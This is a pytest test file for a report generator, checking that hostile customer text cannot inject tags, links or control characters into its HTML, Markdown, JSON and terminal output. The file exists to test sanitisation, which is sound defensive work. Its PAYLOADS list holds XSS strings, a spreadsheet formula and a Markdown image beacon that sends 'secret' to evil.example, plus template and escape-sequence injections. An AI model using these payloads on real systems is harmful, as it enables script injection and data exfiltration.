"""Hostile text in every sink of the report: nothing comes of it."""

import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from koe.language.text import Language
from koe.report.dump import facts_json
from koe.report.index import index_page
from koe.report.terminal import summary
from tests.report_page import Page, markdown_of, page_of
from tests.report_week import hostile_week, made_week

TAGS = """a b blockquote body caption dd details div dl dt figcaption figure footer h1 h2 h3 head header html
li main meta nav ol p path rect section small span style summary svg table tbody td th thead title tr ul"""
ATTRIBUTES = """aria-hidden aria-label aria-labelledby charset class colspan content d height href
http-equiv id lang name preserveaspectratio role scope tabindex viewbox width x y"""
POLICY = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
PAYLOADS = (
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param('"><img src=x onerror=alert(1)>', id="attribute break-out"),
    pytest.param("</title></style><svg onload=alert(1)>", id="raw text break-out"),
    pytest.param('=HYPERLINK("http://evil.example","x")', id="formula"),
    pytest.param("![x](http://evil.example/?d=secret)", id="markdown image"),
    pytest.param("[x]: http://evil.example\n\n[x]", id="reference link"),
    pytest.param("<http://evil.example> www.evil.example a@evil.example", id="autolinks"),
    pytest.param("\n# 見出し\n\n- @channel #1", id="markdown blocks"),
    pytest.param("{{ 7*7 }}{% raw %}{# x #}", id="template"),
    pytest.param("a\u202eb\u2066c\x00d\x1b]8;;http://evil.example\x07e\x1b[31m", id="bidi, NUL and escapes"),
    pytest.param("x" * 5000, id="long token"),
    pytest.param("</details></main>| a | b |\r\n---", id="structure"),
)  # fmt: skip


@pytest.mark.parametrize("language", ["ja", "en"])
@pytest.mark.parametrize("text", PAYLOADS)
def test_no_customer_text_adds_a_tag_an_attribute_or_a_link_to_the_page(
    text: str, language: Language
) -> None:
    page = Page(page_of(hostile_week(text), language))
    calm = Page(page_of(hostile_week("calm words"), language))
    assert set(page.tags) <= set(TAGS.split())
    assert {name for name, _ in page.attributes} <= set(ATTRIBUTES.split())
    assert [tag for tag in page.tags if tag != "p"] == [tag for tag in calm.tags if tag != "p"]
    assert all(href.startswith("#") for href in page.values("href"))
    assert not page.open
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", "".join(page.texts))


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_customer_text_makes_a_link_an_image_or_html_in_markdown(text: str) -> None:
    made = markdown_of(hostile_week(text))
    bare = re.sub(r"(?<!\\)`[^`\n]*`", "", re.sub(r"\\[\\`]", "", made))
    assert "<" not in bare and "://" not in bare and "www." not in bare
    assert not re.search(r"(?<!\\)[\[\]!]", bare)
    assert not re.search(r"@\w", bare)
    assert _headings(made) == _headings(markdown_of(hostile_week("calm words")))


def _headings(markdown: str) -> int:
    return len(re.findall(r"^#+ ", markdown, re.M))


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_markdown_table_keeps_its_columns(text: str) -> None:
    for row in re.findall(r"^\|.*$", markdown_of(hostile_week(text)), re.M):
        assert len(re.findall(r"(?<!\\)\|", row.replace("\\\\", ""))) in (3, 5, 6), row


@pytest.mark.parametrize("text", PAYLOADS)
def test_the_terminal_gets_no_control_character(text: str) -> None:
    publication, facts, digest = hostile_week(text)
    told = summary(facts, digest, publication, "ja")
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", told)


@settings(max_examples=25, deadline=None)
@given(st.text(max_size=40))
def test_any_text_gives_a_well_formed_page_and_valid_json(text: str) -> None:
    week = hostile_week(text)
    assert not Page(page_of(week)).open
    assert json.loads(facts_json(*week))["quotes"][0]["quote"] == text


def test_the_page_brings_its_policy_and_loads_nothing() -> None:
    html = page_of(made_week())
    page = Page(html)
    assert POLICY in page.values("content")
    assert not re.search(r"https?:|url\(|@import|<script|<link|<img|\bon\w+=|javascript:", html)
    assert not {"src", "style", "srcset", "action"} & {name for name, _ in page.attributes}


def test_the_index_is_as_safe_as_the_page() -> None:
    _, facts, _ = hostile_week('"><script>alert(1)</script>')
    page = Page(index_page([facts], "ja"))
    assert set(page.tags) <= set(TAGS.split()) and not page.open
